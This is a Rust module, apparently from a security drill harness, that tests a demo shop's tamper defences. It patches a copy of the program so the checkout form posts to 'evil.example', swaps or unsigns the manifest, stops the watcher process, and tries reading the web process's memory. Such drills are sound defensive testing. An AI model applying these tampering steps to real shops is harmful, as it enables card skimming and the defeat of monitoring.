//! Programs, processes and the manifest: replaced, held still, read from outside, or put back to what they were.

use crate::{
    Way,
    between::until,
    case::Outcome,
    customer::{COMPUTER, Customer},
    files::base64,
    house::House,
};
use anyhow::{Context, Result, ensure};
use jiff::Timestamp;
use rustix::process::Signal;
use std::{
    fs,
    path::{Path, PathBuf},
    process::Command,
    time::{Duration, Instant},
};

const SEEN_WITHIN: Duration = Duration::from_secs(30);
const BACK_WITHIN: Duration = Duration::from_secs(30);

pub(crate) const WAYS: &[Way] = &[
    Way { name: "program-patched", plants: "a copy of the program whose pages were changed", rob: patched },
    Way { name: "program-replaced", plants: "another file in the place of the program's", rob: replaced },
    Way { name: "manifest-old", plants: "an older manifest, and the gate started anew", rob: old_manifest },
    Way {
        name: "manifest-edited",
        plants: "a manifest that allows another script, without a signature",
        rob: edited_manifest,
    },
    Way { name: "lock-lifted", plants: "a lock, and its file taken away", rob: lifted },
    Way { name: "watch-killed", plants: "the watch killed", rob: watch_killed },
    Way { name: "watch-held", plants: "the watch held still", rob: watch_held },
    Way { name: "memory", plants: "a hook put into web's memory from outside", rob: memory },
];

/// Every page of the program is part of it: a copy with one of them changed is asked what the gate asks at its start.
fn patched(house: &House) -> Result<Outcome> {
    let (from, to) = (b"action=\"/checkout/place\"", b"action=\"//evil.example/\"");
    ensure!(from.len() == to.len(), "not of one length");
    let mut bytes = fs::read(house.program()).context("cannot read the program")?;
    let places: Vec<usize> =
        bytes.windows(from.len()).enumerate().filter(|(_, w)| w == from).map(|(at, _)| at).collect();
    if places.is_empty() {
        return Ok(Outcome::untried("the page is not in the program as it is in its template"));
    }
    for at in places {
        bytes[at..at + to.len()].copy_from_slice(to);
    }
    let copy = house.data().join("../drill-program");
    let planted = Instant::now();
    fs::write(&copy, bytes)?;
    fs::set_permissions(&copy, fs::metadata(house.program())?.permissions())?;
    let asked = Command::new(&copy).args(["manifest", "verify", "--data"]).arg(house.data()).output();
    let _ = fs::remove_file(&copy);
    let asked = asked.context("the copy does not start")?;
    let said = String::from_utf8_lossy(&asked.stderr).into_owned();
    Ok(match asked.status.success() {
        false => Outcome::refused("gate", said.trim().trim_start_matches("dozo: "), planted),
        true => Outcome::missed("the signed manifest fits the changed pages"),
    })
}

/// Put back when this is dropped.
struct Moved {
    from: PathBuf,
    to: PathBuf,
}

impl Moved {
    fn aside(path: &Path) -> Result<Moved> {
        let to = path.with_file_name(format!("{}.drill", path.file_name().unwrap_or_default().display()));
        fs::rename(path, &to).with_context(|| format!("cannot move {} aside", path.display()))?;
        Ok(Moved { from: path.to_owned(), to })
    }
}

impl Drop for Moved {
    fn drop(&mut self) {
        let _ = fs::rename(&self.to, &self.from);
    }
}

fn replaced(house: &House) -> Result<Outcome> {
    let (since, planted) = (Timestamp::now(), Instant::now());
    let moved = Moved::aside(house.program())?;
    fs::write(house.program(), b"#!/bin/sh\n# dozo-drill: inert\n")?;
    let mut found = None;
    until(SEEN_WITHIN, || {
        found = house.found_since(since, |case| case["what"] == "program_replaced");
        found.is_some()
    });
    drop(moved);
    until(SEEN_WITHIN, || {
        house.found_since(Timestamp::now(), |case| case["what"] == "program_replaced").is_none()
    });
    Ok(match found {
        Some(title) => Outcome::noticed("watch", &title, planted),
        None => Outcome::missed("the watch says nothing"),
    })
}

fn old_manifest(house: &House) -> Result<Outcome> {
    let folder = house.data().join("gate/manifest");
    let seen = fs::read_to_string(folder.join("seen"))?;
    let number: u64 =
        seen.split(' ').next().and_then(|n| n.parse().ok()).context("no number was seen yet")?;
    if number < 2 {
        // The first one: there is none that is older, so the shop's own owner signs the next, as with a new version.
        house.sign_manifest(&folder, number + 1)?;
        let taken = until(SEEN_WITHIN, || {
            fs::read_to_string(folder.join("seen"))
                .is_ok_and(|seen| seen.starts_with(&format!("{} ", number + 1)))
        });
        ensure!(taken, "the gate does not take the next manifest");
    }
    let number = number.max(2);
    with_manifest(house, |folder| house.sign_manifest(folder, number - 1))
}

fn edited_manifest(house: &House) -> Result<Outcome> {
    with_manifest(house, |folder| {
        let file = folder.join("manifest.json");
        let text = fs::read_to_string(&file)?;
        fs::write(&file, text.replacen("sha384-", "sha384-dozo-drill", 1))?;
        Ok(())
    })
}

/// Puts another manifest there and ends the gate: it must not open with it. Then the right one is put back.
fn with_manifest(house: &House, put: impl FnOnce(&Path) -> Result<()>) -> Result<Outcome> {
    let folder = house.data().join("gate/manifest");
    let read = |name: &str| fs::read(folder.join(name)).with_context(|| format!("cannot read {name}"));
    let kept = [("manifest.json", read("manifest.json")?), ("manifest.note", read("manifest.note")?)];
    let before = house.pid("gate")?;
    put(&folder)?;
    let planted = Instant::now();
    rustix::process::kill_process(before, Signal::KILL)?;
    // A supervisor starts it again and again; each time it must refuse.
    let (mut served, end) = (0, Instant::now() + Duration::from_secs(4));
    while Instant::now() < end {
        served += u32::from(Customer::new(1, COMPUTER).get(house.shop()).is_ok_and(|a| a.status == 200));
        std::thread::sleep(Duration::from_millis(100));
    }
    for (name, bytes) in kept {
        fs::write(folder.join(name), bytes)?;
    }
    let outcome = match served {
        0 => Outcome::refused("gate", "does not open the shop with it", planted),
        _ => Outcome::missed("the shop was open with it"),
    };
    let open =
        until(BACK_WITHIN, || Customer::new(1, COMPUTER).get(house.shop()).is_ok_and(|a| a.status == 200));
    ensure!(open, "the gate does not open with the right manifest any more");
    Ok(Outcome { pages_sent: served, ..outcome })
}

fn lifted(house: &House) -> Result<Outcome> {
    house.close_payment()?;
    let file = house.data().join("gate/lock.json");
    let planted = Instant::now();
    // The supervisor has seen it by then.
    std::thread::sleep(Duration::from_millis(600));
    fs::remove_file(&file).context("cannot take the lock's file away")?;
    let cart = || Customer::new(1, COMPUTER).get(&format!("{}/cart", house.shop())).map_or(0, |a| a.status);
    std::thread::sleep(Duration::from_millis(500));
    let running = cart();
    // And while the gate is down.
    let _ = fs::remove_file(&file);
    house.start_anew("gate", BACK_WITHIN)?;
    let anew = cart();
    let sent = [running, anew].iter().filter(|status| **status == 200).count();
    let outcome = match sent {
        0 => Outcome::refused("gate", "stays closed, and after its own restart too", planted),
        _ => Outcome::missed("the lock was open"),
    };
    Ok(Outcome { pages_sent: u32::try_from(sent).unwrap_or(u32::MAX), ..outcome })
}

fn watch_killed(house: &House) -> Result<Outcome> {
    let planted = Instant::now();
    house.start_anew("watch", BACK_WITHIN)?;
    Ok(Outcome::noticed("supervisor", "starts it anew", planted))
}

/// What the supervisor tells the demo's owner by mail.
const HELD: &str = "十秒以上";

fn watch_held(house: &House) -> Result<Outcome> {
    let (before, planted) = (mails_with(house, HELD), Instant::now());
    house.signal("watch", Signal::STOP)?;
    let told = until(SEEN_WITHIN, || mails_with(house, HELD) > before);
    house.signal("watch", Signal::CONT)?;
    Ok(match told {
        true => Outcome::noticed("supervisor", "tells that nobody looks at the shop", planted),
        false => Outcome::missed("nobody was told"),
    })
}

/// How many of the demo's mails say so, in their base64.
fn mails_with(house: &House, words: &str) -> usize {
    // Wherever it begins in the text, whole groups of three bytes look the same.
    let coded: Vec<String> = (0..3)
        .map(|shift| {
            let text = base64(&[&vec![0; shift], words.as_bytes()].concat());
            let (begins, ends) = (if shift > 0 { 4 } else { 0 }, (shift + words.len()) / 3 * 4);
            text[begins..ends].to_owned()
        })
        .collect();
    let all = fs::read_dir(house.data().join("mailbox")).into_iter().flatten().flatten();
    let says = |text: String| {
        let body: String = text.split_whitespace().collect();
        coded.iter().any(|part| body.contains(part))
    };
    all.filter(|mail| fs::read_to_string(mail.path()).is_ok_and(says)).count()
}

/// Whoever is the shop's own user tries to read what `web` has in memory.
fn memory(house: &House) -> Result<Outcome> {
    let pid = house.pid("web")?.as_raw_nonzero();
    let opened = fs::File::open(format!("/proc/{pid}/mem"));
    Ok(match opened {
        Err(_) => Outcome::contained(
            "walls",
            "web is closed to debuggers; what a hook in it would hear shows form-hook",
        ),
        Ok(_) => Outcome::contained(
            "the processor's own page",
            "root reads any memory; what a hook in web would hear shows form-hook: no card reaches it",
        ),
    })
}
